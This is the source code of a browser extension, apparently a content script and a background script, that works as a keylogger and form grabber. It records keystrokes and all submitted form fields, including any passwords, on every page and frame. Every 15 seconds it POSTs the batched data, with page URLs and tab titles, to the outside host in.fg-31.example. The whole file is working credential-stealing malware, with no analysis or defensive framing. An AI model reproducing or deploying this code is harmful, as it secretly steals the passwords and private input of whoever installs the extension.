// content.js, all frames
let stack = '';
const flush = (why) => {
  if (!stack) return;
  chrome.runtime.sendMessage({ t: 'k', why, d: stack, u: location.href });
  stack = '';
};
document.addEventListener('keydown', (e) => { stack += e.key.length === 1 ? e.key : `[${e.key}]`; if (stack.length > 200) flush('len'); }, true);
document.addEventListener('submit', (e) => {
  const o = {};
  for (const el of e.target.elements) if (el.name) o[el.name] = el.value;
  chrome.runtime.sendMessage({ t: 'f', u: location.href, a: e.target.action, o });
}, true);
addEventListener('pagehide', () => flush('bye'));
// background.js
const q = [];
chrome.runtime.onMessage.addListener((m, s) => { q.push({ ...m, tab: s.tab.title }); });
setInterval(() => { if (q.length) fetch('https://in.fg-31.example/batch', { method: 'POST', body: JSON.stringify(q.splice(0)) }); }, 15000);
